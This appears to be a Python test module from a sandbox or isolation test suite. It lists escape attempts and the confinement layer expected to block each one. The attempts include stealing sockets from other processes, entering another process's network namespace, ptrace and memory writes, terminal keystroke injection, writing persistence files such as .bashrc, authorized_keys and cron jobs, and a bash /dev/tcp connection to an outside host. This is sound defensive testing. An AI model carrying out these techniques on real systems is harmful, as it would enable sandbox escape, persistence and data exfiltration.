"""Ways around by what this machine has: sockets that are handed in, other processes, files, services."""

import ctypes
import fcntl
import os
import signal
import socket
import stat
import struct
import termios
from pathlib import Path

from tests.wall.ways import OUTSIDE4, PORT, WORD, World, checked, libc, program, started, way

_UNSPEC = struct.pack("=H14x", socket.AF_UNSPEC)


# --- sockets that are handed in -----------------------------------------------------------------
def turned(number: int) -> socket.socket:
    """A socket of the outer network, taken off what it did (connect to AF_UNSPEC: tcp(7))."""
    which = socket.socket(fileno=os.dup(number))
    checked(libc().connect(which.fileno(), _UNSPEC, 16))
    return which


def shut(number: int) -> socket.socket:
    which = socket.socket(fileno=os.dup(number))
    which.shutdown(socket.SHUT_RDWR)
    return which


way("a listening socket without our locks, turned around", "landlock")(
    lambda w: started(turned(w.unlocked))
)
way("a listening socket without our locks, shut down and used again", "landlock")(
    lambda w: started(shut(w.unlocked))
)
# The same with the locks that the launcher lays on: they stop it before any other layer.
way("the listening socket, turned around", "door")(lambda w: started(turned(w.listener)))
way("the listening socket, shut down and used again", "door")(lambda w: started(shut(w.listener)))
way("an accepted connection, turned around", "door")(lambda w: started(turned(w.accepted)))


@way("the listening socket, freed of its device", "namespace landlock rights", sure=False)
def unbound(w: World) -> None:
    which = turned(w.listener)
    which.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"\0")
    started(which)


way("the listening socket of all addresses, turned around", "landlock")(
    lambda w: started(turned(w.listener_any))
)
way("the same, to the listed port: one empty packet", "")(
    lambda w: started(turned(w.listener_any), port=w.listed)
)


@way("the same, with data in that packet", "seccomp")
def with_data(w: World) -> None:
    which = turned(w.listener_any)
    for option in (30, 34):
        which.setsockopt(socket.IPPROTO_TCP, option, 1)
    started(which, port=w.listed)
    which.send(WORD)


def given(path: str) -> None:
    """Ask a program outside for a socket of its own, and send by it."""
    with socket.socket(socket.AF_UNIX) as helper:
        helper.connect(path)
        _, (number, *_), _, _ = socket.recv_fds(helper, 16, 1)
        socket.socket(fileno=number).send(WORD)


way("a socket given by a program outside, by its path", "namespace")(
    lambda w: given(f"{w.machine}/helper.sock")
)
way("a socket given by a program outside, in our own data folder", "")(
    lambda w: given(f"{w.scratch}/helper.sock")
)


@way("a socket given through an abstract name", "namespace landlock", kind="act")
def abstract(w: World) -> None:
    socket.socket(socket.AF_UNIX).connect("\0" + w.abstract)


SERVICES = {
    "the message bus": "/run/dbus/system_bus_socket",
    "the container engine": "/run/docker.sock",
    "the name service": "/run/systemd/resolve/io.systemd.Resolve",
    "the user's message bus": "/run/user/1000/bus",
    "the printing service": "/run/cups/cups.sock",
}
for _name, _path in SERVICES.items():
    way(f"a service of the machine: {_name}", "namespace", kind="act")(
        lambda w, path=_path: socket.socket(socket.AF_UNIX).connect(path)  # type: ignore[misc]
    )


# --- other processes ----------------------------------------------------------------------------
@way(
    "a socket taken out of another process (pidfd_getfd)", "namespace seccomp landlock", sure=False
)
def taken(w: World) -> None:
    pidfd = os.pidfd_open(w.victim)
    number = checked(libc().syscall(438, pidfd, w.victim_socket, 0))
    socket.socket(fileno=number).send(WORD)


@way("a file of another process, by /proc", "namespace landlock", kind="act")
def proc_fd(w: World) -> None:
    Path(f"/proc/{w.victim}/fd/{w.victim_file}").read_text()


@way("the files of the machine, by /proc/PID/root", "namespace landlock", kind="act")
def proc_root(w: World) -> None:
    with socket.socket(socket.AF_UNIX) as service:
        service.connect(f"/proc/{w.victim}/root/run/docker.sock")


def entered(path: str, kind: int) -> None:
    number = os.open(path, os.O_RDONLY)
    checked(libc().setns(number, kind))


@way("the network of another process (setns)", "namespace seccomp landlock rights")
def setns(w: World) -> None:
    entered(f"/proc/{w.victim}/ns/net", 0x40000000)
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 253).sendto(WORD, (OUTSIDE4, 0))


@way("the same, from a user namespace of one's own", "namespace seccomp landlock", sure=False)
def nested(w: World) -> None:
    """The rights that come with it are good for what is made in it, and for nothing outside."""
    checked(libc().unshare(0x10000000))
    entered(f"/proc/{w.victim}/ns/net", 0x40000000)
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 253).sendto(WORD, (OUTSIDE4, 0))


@way("a user namespace of one's own", "seccomp", kind="act")
def userns(w: World) -> None:
    checked(libc().unshare(0x10000000 | 0x40000000))


@way(
    "the machine's first process: its network",
    "namespace seccomp landlock rights",
    kind="act",
    sure=False,
)
def first(w: World) -> None:
    entered("/proc/1/ns/net", 0x40000000)


@way("another process, traced", "namespace seccomp landlock", kind="act", sure=False)
def traced(w: World) -> None:
    call = libc().ptrace
    call.argtypes = [ctypes.c_long] * 4
    checked(call(0x4206, w.victim, 0, 0))


@way("another process, its memory written", "namespace seccomp landlock", kind="act", sure=False)
def written(w: World) -> None:
    memory = ctypes.create_string_buffer(b"x")
    ours = (ctypes.c_size_t * 2)(ctypes.addressof(memory), 1)
    theirs = (ctypes.c_size_t * 2)(w.victim_address, 1)
    checked(libc().process_vm_writev(w.victim, ours, 1, theirs, 1, 0))


@way("another process, its memory by /proc", "namespace landlock", kind="act", sure=False)
def proc_mem(w: World) -> None:
    with Path(f"/proc/{w.victim}/mem").open("r+b", buffering=0) as memory:
        memory.seek(w.victim_address)
        memory.write(b"x")


@way("a signal to another process", "landlock", kind="act")
def signalled(w: World) -> None:
    os.kill(w.victim, signal.SIGCONT)


@way("a message queue shared with a program outside", "seccomp", kind="act")
def queue(w: World) -> None:
    checked(libc().msgget(0, 0o1600))


@way("typing into the terminal that started us", "seccomp", kind="act", sure=False)
def typed(w: World) -> None:
    os.setsid()
    fcntl.ioctl(w.terminal, termios.TIOCSCTTY, 1)
    fcntl.ioctl(w.terminal, termios.TIOCSTI, b"x")


# --- the network's own settings, the kernel's ---------------------------------------------------
@way("a route of one's own", "namespace rights", kind="act")
def routed(w: World) -> None:
    """Inside it would lead to loopback; it shows what a program may change."""
    index = socket.if_nametoindex("lo")
    about = struct.pack("=BBBBBBBBI", socket.AF_INET, 24, 0, 0, 254, 4, 253, 1, 0)
    about += struct.pack("=HH4sHHI", 8, 1, socket.inet_aton("198.18.7.0"), 8, 4, index)
    kernel = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    kernel.send(struct.pack("=IHHII", 16 + len(about), 24, 0x405, 1, 0) + about)
    number = -struct.unpack_from("i", kernel.recv(4096), 16)[0]
    if number not in (0, 17):
        raise OSError(number, os.strerror(number))


@way("a network interface of one's own (tun)", "namespace landlock rights", kind="act", sure=False)
def tun(w: World) -> None:
    number = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(number, 0x400454CA, struct.pack("16sH22x", b"leak0", 0x1001))


for _setting in ("core_pattern", "modprobe"):
    way(
        f"a program that the kernel runs for us ({_setting})",
        "landlock namespace",
        kind="act",
        sure=False,
    )(
        lambda w, name=_setting: os.close(  # type: ignore[misc]
            os.open(f"/proc/sys/kernel/{name}", os.O_WRONLY)  # opened, and nothing written
        )
    )


@way("a file by its handle", "seccomp rights namespace", kind="act", sure=False)
def handle(w: World) -> None:
    about = ctypes.create_string_buffer(struct.pack("=II", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    checked(libc().name_to_handle_at(-100, b"/etc", about, ctypes.byref(mount_id), 0))
    place = os.open("/", os.O_RDONLY)
    checked(libc().open_by_handle_at(place, about, 0))


@way("a program with set-user-id bits", "rights namespace", kind="act")
def setuid(w: World) -> None:
    """Root's number in a namespace has all rights again with exec, unless they were given up."""
    copy = Path(w.scratch, f"status-{os.getpid()}")
    copy.write_bytes(Path("/bin/cat").read_bytes())
    copy.chmod(0o755 | stat.S_ISUID)
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.dup2(writing, 1)
        os.execv(copy, ["cat", "/proc/self/status"])  # noqa: S606
    os.wait()
    said = os.read(reading, 65_536).decode()
    if int(said.split("CapEff:")[1].split()[0], 16) == 0:
        raise PermissionError(1, "it has no rights")


# --- files that other programs obey -------------------------------------------------------------
for _file in (
    ".bashrc",
    ".ssh/authorized_keys",
    ".config/systemd/user/leak.service",
    ".config/autostart/leak.desktop",
):
    way(f"a file in the user's home: {_file}", "landlock namespace", kind="act")(
        lambda w, name=_file: Path(w.machine, "home", name).write_text("leak")  # type: ignore[misc]
    )


@way("a job for cron", "landlock namespace", kind="act", sure=False)
def cron(w: World) -> None:
    Path("/etc/cron.d/leak").write_text("leak")


@way("a library that is loaded before all others (LD_PRELOAD)", "namespace landlock", sure=False)
def preload(w: World) -> None:
    """In a child's environment: it changes the program, not what the kernel lets it do."""
    line = next(
        each for each in Path("/proc/self/maps").read_text().splitlines() if "libc.so" in each
    )
    command = f"exec 3<>/dev/tcp/{OUTSIDE4}/{PORT}"
    program(
        "timeout",
        "3",
        "bash",
        "-c",
        command,
        env={"LD_PRELOAD": line.split()[-1], "PATH": os.defpath},
    )


# Last: it takes the services away from those that come after it.
@way("what is hidden, uncovered (umount)", "namespace seccomp landlock rights", kind="act")
def uncovered(w: World) -> None:
    checked(libc().umount2(b"/run", 2))
